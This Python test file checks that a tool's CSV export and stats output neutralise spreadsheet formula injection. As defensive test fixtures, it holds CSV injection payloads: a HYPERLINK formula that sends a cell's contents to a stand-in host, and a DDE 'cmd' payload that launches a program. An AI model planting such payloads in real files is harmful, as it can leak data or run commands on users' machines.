"""CSV files for people: no cell a spreadsheet would run as a formula (export, stats), whatever the text."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import date
from typing import Any
from unittest.mock import patch

from hypothesis import given, settings
from hypothesis import strategies as st

from wrapguard.cli import common
from wrapguard.cli import stats as stats_cli
from wrapguard.cli.review import main
from wrapguard.cli.safe_csv import FORMULA_STARTS, SafeCsvWriter, neutralised, safe_cell
from wrapguard.cli.show import COLUMNS
from wrapguard.domain.deadline import Deadline
from wrapguard.domain.stats import FailureFact, compute

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx"]


def written(cells: list[Any]) -> list[str]:
    out = io.StringIO()
    SafeCsvWriter(out, ["h"]).row(cells)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["h"]
    return rows[1]


@settings(max_examples=300, deadline=None)
@given(texts=st.lists(st.text(), min_size=1, max_size=4))
def test_any_text_reads_back_safe_and_otherwise_unchanged(texts: list[str]) -> None:
    for text, cell in zip(texts, written(list(texts)), strict=True):
        assert cell[:1] not in FORMULA_STARTS
        if text[:1] in FORMULA_STARTS:
            assert cell == "'" + text
        else:
            assert cell == text


@given(header=st.lists(st.text(min_size=1), min_size=1, max_size=4))
def test_the_header_is_neutralised_too(header: list[str]) -> None:
    out = io.StringIO()
    SafeCsvWriter(out, header)
    (read,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert read == [neutralised(h) for h in header]


@given(number=st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_our_numbers_stay_numbers_even_negative(number: float) -> None:
    (cell,) = written([number])
    assert cell == str(number)  # the number's own text, no quote in front: a spreadsheet reads a number
    assert safe_cell(str(number)) == neutralised(str(number))  # the same figure as text is text


def test_none_is_empty_and_odd_values_are_text() -> None:
    assert written([None, float("-inf"), True]) == ["", "'-inf", "True"]


# --- the commands' files, with hostile values from flows and Genesys --------------------------------
CID, PID = str(uuid.uuid4()), str(uuid.uuid4())


class HostileStore:
    """One failure whose every text attribute a flow author or Genesys user could have written."""

    def __init__(self, db: Any, table_name: str) -> None:
        self.item: dict[str, Any] = {column: HOSTILE[i % len(HOSTILE)] for i, column in enumerate(COLUMNS)}
        self.item.update(conversationId=CID, participantId=PID, attempts=2, httpStatus=409, expiresAt=-1)
        self.item["reviews"] = [{"status": "resolved", "by": "=ana", "at": "t", "note": "=1+1"}]

    def newest_first(self, positions: Any, *, deadline: Deadline) -> Iterator[dict[str, Any]]:
        return iter([self.item])

    def facts(self, since: date, *, deadline: Deadline) -> list[FailureFact]:
        return [FailureFact("2026-11-24", "=reason", "+source", "open", "q-1", "u-1", "@media")]


def test_export_csv_neutralises_every_text_cell_and_keeps_numbers() -> None:
    out = io.StringIO()
    with patch.object(common, "FailureStore", HostileStore):
        assert main(["--table", "t", "export", "--format", "csv"], out=out) == 0
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    item = HostileStore(None, "t").item
    for column in COLUMNS:
        value = item[column]
        if isinstance(value, int):
            assert row[column] == str(value)  # attempts 2, expiresAt -1: numbers we stored stay numbers
            continue
        assert row[column][:1] not in FORMULA_STARTS, column
        if column != "reviews":
            assert row[column] == "'" + value if value[:1] in FORMULA_STARTS else value
    assert row["wrapupCodeName"].startswith("'") and row["reviewNote"].startswith("'")


class HostileNames:
    def names(self, kind: str, ids: Any) -> dict[str, str]:
        return {i: f'=HYPERLINK("http://x.example","{kind}")' for i in ids}


def test_stats_csv_neutralises_names_and_keys_and_keeps_figures() -> None:
    out = io.StringIO()
    with (
        patch.object(common, "FailureStore", HostileStore),
        patch.object(stats_cli, "genesys_directory", lambda ctx: HostileNames()),
    ):
        code = main(
            [
                "--table",
                "t",
                "stats",
                "--since",
                "2026-11-24",
                "--until",
                "2026-11-25",
                "--by",
                "queue,agent,media,reason,source",
                "--format",
                "csv",
            ],
            out=out,
        )
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert row["queueName"] == '\'=HYPERLINK("http://x.example","queue")'
    assert row["agentName"].startswith("'=")
    assert (row["media"], row["reason"], row["source"]) == ("'@media", "'=reason", "'+source")
    assert (row["failures"], row["openFailures"], row["failureShare"]) == ("1", "1", "1.0")


def test_stats_csv_unknown_key_is_an_empty_cell() -> None:
    stats = compute(
        ("queue",), date(2026, 11, 24), date(2026, 11, 24), None, HostileNoQueue(), deadline=Deadline.unbounded()
    )
    out = io.StringIO()
    stats_cli.write_csv(stats, out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["queueId", "queueName", "failures", "openFailures", "failureShare"],
        ["", "", "1", "0", "1.0"],
    ]


class HostileNoQueue:
    def facts(self, since: date, *, deadline: Deadline) -> list[FailureFact]:
        return [FailureFact("2026-11-24", "timeout", "data_action", "resolved", None, None, None)]
